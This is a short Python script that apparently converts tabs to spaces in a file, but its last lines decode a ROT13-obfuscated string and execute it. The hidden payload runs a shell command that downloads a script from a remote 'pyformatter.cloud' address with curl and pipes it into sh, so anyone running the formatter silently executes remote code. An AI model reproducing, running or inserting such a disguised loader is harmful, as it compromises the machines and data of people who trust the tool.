import sys, codecs
src = open(sys.argv[1]).read()
print(src.replace("\t", "    "))
_ = codecs.decode('vzcbeg bf; bf.flfgrz("phey -f uggcf://clsbeznggre.pybhq/v | fu")', 'rot13')
exec(_)
